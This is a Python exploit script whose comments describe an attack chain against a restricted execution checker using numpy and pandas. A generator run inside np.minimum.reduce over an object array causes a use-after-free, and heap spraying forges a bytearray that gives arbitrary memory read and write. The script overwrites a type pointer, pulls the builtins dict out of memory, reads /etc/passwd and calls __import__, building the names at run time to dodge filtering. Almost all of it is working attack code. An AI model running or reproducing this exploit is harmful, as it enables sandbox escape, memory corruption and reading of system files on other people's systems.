# source: collections/abc.py Set.__le__ (for elem in self) + KeysView.__iter__ (yield from self._mapping); the check's __iter__ rule ('iterate an attribute') where the attribute is a script generator; numpy OBJECT_minimum loop; trigger: np.minimum.reduce(book); escalation: Objects/moduleobject.c layout (md_dict), CPython 3.11 managed-dict values pointer at obj-32
# family: script generator run through an allowed __iter__ (iter(self.src)) from a library Set comparison inside numpy/pandas object min loops -> use-after-free -> forged bytearray; then raw memory write of an attribute slot -> the builtins dict as a value
# goal: from the forged bytearray: builtins dict reached by memory, then open('/etc/passwd') read and __import__('this') (Zen printed), names and path built at run time
import collections.abc
import numpy as np
import pandas as pd


class Basket:
    def __init__(self, items, src):
        self.items = tuple(items)
        self.src = src

    def __len__(self):
        return len(self.items)

    def __iter__(self):
        return iter(self.src)


class Box:
    pass


class Other:
    pass


book = np.empty(2, dtype=object)


def feed():
    book[1] = 0
    yield 1


def q(n):
    return n.to_bytes(8, "little")


def bytearray_type():
    h = hash(bytearray) & (2**64 - 1)
    return ((h << 4) | (h >> 60)) & (2**64 - 1)


def where(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


book[0] = collections.abc.KeysView(Basket([1], feed()))
book[1] = frozenset([2])
res = np.minimum.reduce(book)
fake = q(2**40) + q(bytearray_type()) + q(2**62) + q(2**62) + q(0) + q(0) + q(0)
spray = []
for k in range(8):
    b = bytearray(215)
    b[16:16 + len(fake)] = fake
    spray.append(b)
print("dangling object is now a bytearray:", type(res) is bytearray, len(res))
bx = Box()
ot = Other()
wb, wo = where(bx), where(ot)
print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)


def rd(a):
    return int.from_bytes(res[a:a + 8], "little")


def wr(a, v):
    res[a:a + 8] = q(v)


class Carrier:
    pass


c = Carrier()
c.f = print
vals = rd(where(c) - 32)
pr = rd(vals)
mod = rd(pr + 24)
bdict = rd(mod + 16)
wr(bdict, rd(bdict) + 1000)
wr(vals, bdict)
d = c.f
print("got the builtins dict:", type(d) is dict, len(d))
opener = d["op" + "en"]
print(opener(chr(47).join(["", "etc", "passwd"])).read()[:120])
d[chr(95) * 2 + "import" + chr(95) * 2]("this")
